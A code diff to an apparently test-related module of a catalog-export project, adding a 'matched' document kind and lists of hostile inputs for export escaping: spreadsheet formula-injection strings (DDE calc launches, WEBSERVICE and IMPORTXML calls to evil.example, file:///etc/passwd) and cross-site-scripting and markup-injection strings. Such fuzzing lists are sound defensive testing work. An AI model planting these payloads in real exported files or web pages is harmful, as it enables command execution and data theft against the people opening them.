@@ -27,7 +27,23 @@ from weighbridge.exports.vendor_sheets import strategy_document
 Table = list[list[str]]
 """A table read back: the headers first, then rows."""
 
-KINDS = ("models", "families", "counterparts", "strategy", "licenses", "may-i")
+FORMULAS = [
+    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "=A1", "==1", "="),
+    *('=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")', '="x"'),
+    *("{=1+1}", '=DDE("cmd";"/C calc";"x")', "+1+1", "+cmd|' /C calc'!A0", "++1", "+A1", "-1+1"),
+    *("-2+3+cmd|' /C calc'!A0", "--1", "-A1", "@SUM(1+1)", "@A1", "@", "\t=1+1", "\n=1+1"),
+    *("\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "http://evil.example/x", "1e5"),
+    *("mailto:a@b.example", "internal:Sheet1!A1", "file:///etc/passwd", "=1+1;=2+2"),
+]
+MARKUP = [
+    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</table><h1>x", "<!--", "]]>"),
+    *('"><svg onload=alert(1)>', "&lt;b&gt;", "&amp;", "javascript:alert(1)", "a\x00b", "\u202ex"),
+    *('https://x.example/"onmouseover="alert(1)', "https://x.example/<b>", "<style>*{}</style>"),
+    *("**bold**", "[x](javascript:alert(1))", "![x](https://x.example)", "`x`", "a|b", "~~x~~"),
+    *("<https://x.example>", "# head", "- item", "x\\", "\\|", "&copy;", "https://x.example"),
+]
+
+KINDS = ("models", "families", "matched", "counterparts", "strategy", "licenses", "may-i")
 
 
 def document(catalog: Catalog, kind: str, *, with_evidence: bool = False) -> Document:
@@ -46,10 +62,10 @@ def document(catalog: Catalog, kind: str, *, with_evidence: bool = False) -> Doc
         rulings = {id: may_i(catalog, id, use) for id in catalog.models}
         return may_i_document(catalog, use, rulings, with_evidence=with_evidence)
     lineup = ["acme/oak-3", "umbra/shade-pro", "acme/oak-4"]
-    if kind == "families":
+    if kind in ("families", "matched"):
         lineup = ["family:oak", "vendor:umbra", "side:open"]
     comparison = compare(catalog, lineup, Options(baseline=lineup[1]))
-    matches = match_members(catalog, comparison) if comparison.is_nested else ()
+    matches = match_members(catalog, comparison) if kind == "matched" else None
     said = verdicts(catalog, comparison)
     return comparison_document(catalog, comparison, said, matches, with_evidence=with_evidence)
 
